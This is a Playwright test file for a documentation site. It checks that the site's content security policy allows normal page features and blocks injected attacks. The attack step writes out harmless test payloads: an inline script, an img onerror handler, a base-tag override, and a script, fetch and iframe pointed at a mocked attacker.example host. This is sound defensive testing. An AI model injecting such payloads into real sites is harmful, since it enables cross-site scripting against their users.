import type { Page } from '@playwright/test';
import { openApp } from './faults';
import { PAGES } from './pages';
import { anyOf } from './pick';
import { expect, plainTest, test } from './test';
import { settle } from './settle';

/** Reports what the policy blocks as an error, which fails the test. */
async function watch(page: Page): Promise<void> {
  await page.addInitScript(() => {
    addEventListener('securitypolicyviolation', (event) => {
      const { violatedDirective, blockedURI, sourceFile } = event;
      console.error(
        'blocked on',
        location.href,
        violatedDirective,
        blockedURI,
        sourceFile,
      );
    });
  });
}

test('the security policy lets work what pages have', async ({ page }) => {
  await watch(page);
  // By a redirect.
  await page.goto('docs/');
  await expect(page).toHaveURL(/quick-start-guide\/$/);
  await settle(page);
  await openApp(page, PAGES.module);
  await page.keyboard.press('Control+K');
  const dialog = page.getByRole('dialog');
  await dialog.getByRole('combobox').fill('captions');
  await expect(anyOf(dialog.getByRole('option'))).toBeVisible();
  await page.keyboard.press('Escape');
  await page.getByRole('button', { name: /switch between dark/i }).click();
  await page.getByRole('button', { name: 'Version' }).click();
  await page
    .getByRole('complementary')
    .getByRole('link', { name: 'Keyboard', exact: true })
    .click();
  await expect(
    page.getByRole('heading', { level: 1, name: 'Keyboard' }),
  ).toBeVisible();
});

// Not of the kind that fails for an error: what is blocked is logged as one.
plainTest('the security policy blocks', async ({ page }) => {
  await page.goto(PAGES.module);
  await page.route('https://attacker.example/**', (route) =>
    route.fulfill({
      contentType: 'text/javascript',
      body: 'document.documentElement.dataset.attack = "won"',
    }),
  );
  const attacks = {
    'a script in the page': () => {
      const script = document.createElement('script');
      script.textContent = 'document.documentElement.dataset.attack = "won"';
      document.body.append(script);
    },
    'a script of another site': () => {
      const script = document.createElement('script');
      script.src = 'https://attacker.example/a.js';
      document.body.append(script);
    },
    'a handler in markup': () => {
      const image =
        '<img src="data:," onerror="document.documentElement.dataset.attack = \'won\'">';
      document.body.insertAdjacentHTML('beforeend', image);
    },
    'a new base': () => {
      const base = document.createElement('base');
      base.href = 'https://attacker.example/';
      document.head.append(base);
    },
    'a request elsewhere': () => {
      void fetch('https://attacker.example/').catch(() => undefined);
    },
    'a frame': () => {
      const frame = document.createElement('iframe');
      frame.src = 'https://attacker.example/';
      document.body.append(frame);
    },
  };

  for (const [name, attack] of Object.entries(attacks)) {
    await plainTest.step(name, async () => {
      const blocked = page.evaluate(
        () =>
          new Promise<string>((resolve) => {
            addEventListener('securitypolicyviolation', (event) => {
              resolve(event.effectiveDirective);
            });
          }),
      );
      await page.evaluate(attack);
      expect(await blocked).toMatch(/^(script|base|connect|frame)/);
      await expect(page.locator('html')).not.toHaveAttribute('data-attack');
    });
  }
});
